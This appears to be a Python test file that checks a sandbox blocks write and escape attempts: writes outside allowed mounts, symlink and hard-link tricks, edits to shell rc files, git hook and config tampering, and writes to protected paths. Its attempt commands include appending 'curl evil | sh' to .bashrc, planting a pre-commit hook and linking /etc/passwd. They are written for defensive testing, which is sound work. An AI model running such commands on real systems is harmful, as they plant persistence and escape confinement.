"""Writing where the spec does not allow: every attempt must leave the host untouched.

The verdict is read on the host (file absent, content and mode unchanged), not only from the
sandbox's exit codes: a write into the sandbox's private /tmp "succeeds" and reaches nothing.
Each test also writes to an allowed place with the same tools, so it cannot pass because the
command never ran.
"""

from __future__ import annotations

import os
import pathlib
import subprocess

import pytest
from escape_kit import Sandboxes, attempts, outcomes, output

pytestmark = [pytest.mark.security, pytest.mark.integration]


def _snapshot(root: pathlib.Path) -> dict[str, tuple[int, bytes | str]]:
    """Every entry under `root`: its mode, and its bytes (files) or link target (symlinks)."""
    snap: dict[str, tuple[int, bytes | str]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = pathlib.Path(dirpath, name)
            st = path.lstat()
            if path.is_symlink():
                snap[str(path)] = (st.st_mode, os.readlink(path))
            elif path.is_file():
                snap[str(path)] = (st.st_mode, path.read_bytes())
            else:
                snap[str(path)] = (st.st_mode, b"")
    return snap


def _assert_control(result_outcomes: dict[str, str], sb: Sandboxes, name: str = "control") -> None:
    assert result_outcomes.get(name) == "ok", f"control write failed: {result_outcomes}"
    assert (sb.worktree / name).read_text() == "allowed\n"


async def test_write_outside_the_binds_does_not_reach_the_host(sb: Sandboxes) -> None:
    outside = sb.root / "outside"
    outside.mkdir()
    (outside / "existing.txt").write_text("orig\n")
    before = _snapshot(outside)
    hostname_mtime = os.stat("/etc/hostname").st_mtime_ns
    result = await sb.run(
        attempts(
            control=f"echo allowed > {sb.worktree}/control",
            append_outside=f"echo pwned >> {outside}/existing.txt",
            create_outside=f"echo pwned > {outside}/new.txt",
            create_beside_worktree=f"echo pwned > {sb.root}/beside.txt",
            create_etc="echo pwned > /etc/cc-sec-escape",
            create_usr="echo pwned > /usr/cc-sec-escape",
            create_usr_bin="echo pwned > /usr/bin/cc-sec-escape",
            touch_etc_hostname="touch /etc/hostname",
            mkdir_root="mkdir /cc-sec-escape",
            create_var="echo pwned > /var/cc-sec-escape",
        )
    )
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    for name in (
        "create_etc",
        "create_usr",
        "create_usr_bin",
        "touch_etc_hostname",
        "mkdir_root",
        "create_var",
        "append_outside",
        "create_outside",
    ):
        assert verdicts[name] == "fail", f"{name}: {verdicts}"
    # Host side: nothing new, nothing changed. (create_beside_worktree lands in the sandbox's
    # private /tmp, so only the host can say it went nowhere.)
    assert _snapshot(outside) == before
    assert not (sb.root / "beside.txt").exists()
    for path in (
        "/etc/cc-sec-escape",
        "/usr/cc-sec-escape",
        "/usr/bin/cc-sec-escape",
        "/cc-sec-escape",
        "/var/cc-sec-escape",
    ):
        assert not os.path.lexists(path), path
    assert os.stat("/etc/hostname").st_mtime_ns == hostname_mtime


async def test_write_through_a_symlink_in_the_worktree_stays_inside(sb: Sandboxes) -> None:
    outside = sb.root / "outside"
    outside.mkdir()
    (outside / "existing.txt").write_text("orig\n")
    before = _snapshot(outside)
    wt = sb.worktree
    (wt / "to-new").symlink_to(outside / "new.txt")
    (wt / "to-existing").symlink_to(outside / "existing.txt")
    (wt / "to-dir").symlink_to(outside)
    (wt / "to-etc").symlink_to("/etc/cc-sec-escape")
    (wt / "to-home").symlink_to(sb.home)
    result = await sb.run(
        attempts(
            control=f"echo allowed > {wt}/control",
            via_new=f"echo pwned > {wt}/to-new",
            via_existing=f"echo pwned >> {wt}/to-existing",
            via_dir=f"echo pwned > {wt}/to-dir/made.txt",
            via_etc=f"echo pwned > {wt}/to-etc",
            via_home=f"echo pwned > {wt}/to-home/.bashrc",
            via_cp=f"cp {wt}/README {wt}/to-dir/",
        )
    )
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    assert verdicts["via_existing"] == "fail" and verdicts["via_etc"] == "fail", verdicts
    assert _snapshot(outside) == before
    assert not os.path.lexists("/etc/cc-sec-escape")
    assert not (sb.home / ".bashrc").exists()
    for link in ("to-new", "to-existing", "to-dir", "to-etc", "to-home"):
        assert (wt / link).is_symlink(), link


async def test_shell_rc_in_a_writable_root_is_not_writable(sb: Sandboxes) -> None:
    wt = sb.worktree
    (wt / ".bashrc").write_text("# the user's bashrc\n")
    (wt / ".profile").write_text("# the user's profile\n")
    before = _snapshot(wt)
    result = await sb.run(
        attempts(
            append=f"echo 'curl evil | sh' >> {wt}/.bashrc",
            truncate=f": > {wt}/.bashrc",
            remove=f"rm -f {wt}/.bashrc",
            rename_away=f"mv {wt}/.bashrc {wt}/bashrc.old",
            replace=f"echo evil > {wt}/x && mv -f {wt}/x {wt}/.bashrc",
            symlink_over=f"ln -sf /tmp/evil {wt}/.bashrc",
            chmod=f"chmod 777 {wt}/.bashrc",
            profile=f"echo evil >> {wt}/.profile",
            sed_in_place=f"sed -i 's/user/evil/' {wt}/.bashrc",
        )
        + f"\nrm -f {wt}/x\n"
        + attempts(control=f"echo allowed > {wt}/control")
    )
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    assert {k: v for k, v in verdicts.items() if k != "control"} == dict.fromkeys(
        (
            "append",
            "truncate",
            "remove",
            "rename_away",
            "replace",
            "symlink_over",
            "chmod",
            "profile",
            "sed_in_place",
        ),
        "fail",
    ), verdicts
    (wt / "control").unlink()
    assert _snapshot(wt) == before


async def test_git_hooks_and_config_are_not_writable(sb: Sandboxes) -> None:
    wt = sb.worktree
    subprocess.run(
        ["/usr/bin/git", "init", "-q", str(wt)],
        check=True,
        env={"PATH": "/usr/bin:/bin", "HOME": str(sb.home), "GIT_CONFIG_NOSYSTEM": "1"},
    )
    git = wt / ".git"
    assert (git / "hooks").is_dir()
    hooks_before = _snapshot(git / "hooks")
    config_before = (git / "config").read_bytes()
    script = attempts(
        pre_commit=f"printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > {git}/hooks/pre-commit",
        chmod_sample=f"chmod +x {git}/hooks/pre-commit.sample",
        hooks_rename=f"mv {git}/hooks {git}/hooks.old",
        hooks_remove=f"rm -rf {git}/hooks",
        config_append=f"printf '[core]\\n\\thooksPath = /tmp/h\\n' >> {git}/config",
        git_config=f"git -C {wt} config core.hooksPath /tmp/h",
        git_rename=f"mv {git} {wt}/git.old",
        git_remove=f"rm -rf {git}",
    )
    # The classic bypass: move the parent away, rebuild it, write the hook at the original path.
    script += "\n" + attempts(
        rebuild=f"mkdir -p {git}/hooks && echo evil > {git}/hooks/pre-commit",
    )
    script += "\n" + attempts(
        control=f"echo allowed > {wt}/control",
        git_internal=f"echo 'a description' > {git}/description",
    )
    result = await sb.run(script)
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    assert verdicts["git_internal"] == "ok", verdicts  # .git itself is not read-only
    for name in (
        "pre_commit",
        "chmod_sample",
        "hooks_rename",
        "hooks_remove",
        "config_append",
        "git_config",
        "git_rename",
        "git_remove",
        "rebuild",
    ):
        assert verdicts[name] == "fail", f"{name}: {verdicts}\n{output(result)}"
    assert not (git / "hooks" / "pre-commit").exists()
    assert _snapshot(git / "hooks") == hooks_before
    assert (git / "config").read_bytes() == config_before
    assert not (wt / "git.old").exists() and not (git / "hooks.old").exists()


async def test_protected_path_inside_a_writable_bind_is_not_writable(sb: Sandboxes) -> None:
    wt = sb.worktree
    protected = wt / "protected"
    (protected / "src").mkdir(parents=True)
    (protected / "src" / "main.py").write_text("print('original')\n")
    (protected / "file").write_text("original\n")
    nested = wt / "sub" / "checkout"
    nested.mkdir(parents=True)
    (nested / "file").write_text("original\n")
    before = {p: _snapshot(p) for p in (protected, nested)}
    result = await sb.run(
        attempts(
            write_new=f"echo pwned > {protected}/new",
            append=f"echo pwned >> {protected}/file",
            deep=f"echo pwned >> {protected}/src/main.py",
            remove_file=f"rm -f {protected}/file",
            remove_tree=f"rm -rf {protected}",
            rename_away=f"mv {protected} {wt}/protected.old",
            rename_inner=f"mv {protected}/src {protected}/src.old",
            nested_write=f"echo pwned > {nested}/new",
            parent_rename=f"mv {wt}/sub {wt}/sub.old",
        )
        # After the rename attempts: rebuild the original path and write through it.
        + "\n"
        + attempts(
            rebuild=f"mkdir -p {nested} && echo pwned > {nested}/new",
            control=f"echo allowed > {wt}/control",
        ),
        protectedPaths=[str(protected), str(nested)],
    )
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    assert {k: v for k, v in verdicts.items() if k != "control"} == dict.fromkeys(
        (
            "write_new",
            "append",
            "deep",
            "remove_file",
            "remove_tree",
            "rename_away",
            "rename_inner",
            "nested_write",
            "parent_rename",
            "rebuild",
        ),
        "fail",
    ), f"{verdicts}\n{output(result)}"
    assert {p: _snapshot(p) for p in (protected, nested)} == before
    assert not (wt / "protected.old").exists() and not (wt / "sub.old").exists()


async def test_protected_path_spelled_through_a_symlink_is_still_protected(
    sb: Sandboxes,
) -> None:
    real = sb.worktree / "real-checkout"
    real.mkdir()
    (real / "file").write_text("original\n")
    (sb.root / "alias").symlink_to(real)
    before = _snapshot(real)
    result = await sb.run(
        attempts(
            control=f"echo allowed > {sb.worktree}/control",
            write=f"echo pwned >> {real}/file",
            create=f"echo pwned > {real}/new",
        ),
        protectedPaths=[str(sb.root / "alias")],
    )
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    assert verdicts["write"] == "fail" and verdicts["create"] == "fail", verdicts
    assert _snapshot(real) == before


@pytest.mark.parametrize("how", ["bind", "runner-state-dir"])
async def test_a_writable_bind_inside_a_protected_path_is_read_only(
    sb: Sandboxes, how: str
) -> None:
    # protectedPaths win over every bind: a checkout's subdirectory bound writable (or named as
    # runner state) must not make the checkout writable.
    repo = sb.root / "repo"
    (repo / "src").mkdir(parents=True)
    (repo / "src" / "main.py").write_text("print('original')\n")
    before = _snapshot(repo)
    fields: dict[str, object] = {"protectedPaths": [str(repo)]}
    if how == "bind":
        fields["bindMounts"] = [{"hostPath": str(sb.worktree)}, {"hostPath": str(repo / "src")}]
    else:
        fields["runnerStateDirs"] = [str(repo / "src")]
    result = await sb.run(
        attempts(
            control=f"echo allowed > {sb.worktree}/control",
            readable=f"grep -q original {repo}/src/main.py",
            append=f"echo pwned >> {repo}/src/main.py",
            create=f"echo pwned > {repo}/src/new.py",
            remove=f"rm -f {repo}/src/main.py",
        ),
        **fields,
    )
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    assert verdicts["readable"] == "ok", verdicts  # still visible, just not writable
    assert (verdicts["append"], verdicts["create"], verdicts["remove"]) == ("fail",) * 3, verdicts
    assert _snapshot(repo) == before


async def test_hard_link_to_a_file_outside_the_writable_bind_fails(sb: Sandboxes) -> None:
    ro = sb.root / "ro"
    ro.mkdir()
    (ro / "data").write_text("read-only data\n")
    protected = sb.worktree / "protected"
    protected.mkdir()
    (protected / "file").write_text("original\n")
    wt = sb.worktree
    result = await sb.run(
        attempts(
            control=f"echo allowed > {wt}/control",
            same_mount=f"ln {wt}/README {wt}/readme-hard",
            etc_passwd=f"ln /etc/passwd {wt}/passwd-hard",
            ro_bind=f"ln {ro}/data {wt}/data-hard",
            protected=f"ln {protected}/file {wt}/protected-hard",
            usr_binary=f"ln /usr/bin/env {wt}/env-hard",
        ),
        bindMounts=[{"hostPath": str(wt)}, {"hostPath": str(ro), "readOnly": True}],
        protectedPaths=[str(protected)],
    )
    verdicts = outcomes(result)
    _assert_control(verdicts, sb)
    assert verdicts["same_mount"] == "ok", verdicts  # ln itself works
    assert os.stat(wt / "readme-hard").st_ino == os.stat(wt / "README").st_ino
    for name in ("etc_passwd", "ro_bind", "protected", "usr_binary"):
        assert verdicts[name] == "fail", f"{name}: {verdicts}"
    for name in ("passwd-hard", "data-hard", "protected-hard", "env-hard"):
        assert not os.path.lexists(wt / name), name
    assert os.stat(ro / "data").st_nlink == 1
    assert os.stat(protected / "file").st_nlink == 1


@pytest.mark.parametrize("where", ["worktree", "home"])
async def test_a_protected_bind_root_stays_read_only_around_the_pinned_paths(
    sb: Sandboxes, where: str
) -> None:
    # Mandatory denies (.git/hooks) and secret masks (~/.config/gh) pin the directories above
    # them with self-binds; inside a protected tree those pins must not be writable again.
    root = sb.worktree if where == "worktree" else sb.home
    subprocess.run(
        ["/usr/bin/git", "init", "-q", str(root)],
        check=True,
        env={"PATH": "/usr/bin:/bin", "HOME": str(sb.home), "GIT_CONFIG_NOSYSTEM": "1"},
    )
    (root / ".config" / "gh").mkdir(parents=True)
    (root / ".config" / "gh" / "hosts.yml").write_text(sb.secret_marker)
    (root / ".claude").mkdir()
    (root / ".claude" / "settings.json").write_text("{}\n")
    before = _snapshot(root)
    scratch = sb.root / "scratch"
    scratch.mkdir()
    result = await sb.run(
        attempts(
            control=f"echo allowed > {scratch}/control",
            top=f"echo pwned > {root}/new",
            git_dir=f"echo pwned > {root}/.git/description",
            git_objects=f"mkdir {root}/.git/objects/zz",
            config_dir=f"echo pwned > {root}/.config/new",
            claude_dir=f"echo pwned > {root}/.claude/new",
        ),
        bindMounts=[{"hostPath": str(root)}, {"hostPath": str(scratch)}],
        protectedPaths=[str(root)],
    )
    verdicts = outcomes(result)
    assert verdicts.get("control") == "ok", verdicts
    assert (scratch / "control").read_text() == "allowed\n"
    for name in ("top", "git_dir", "git_objects", "config_dir", "claude_dir"):
        assert verdicts[name] == "fail", f"{name}: {verdicts}"
    assert sb.secret_marker not in output(result)
    assert _snapshot(root) == before
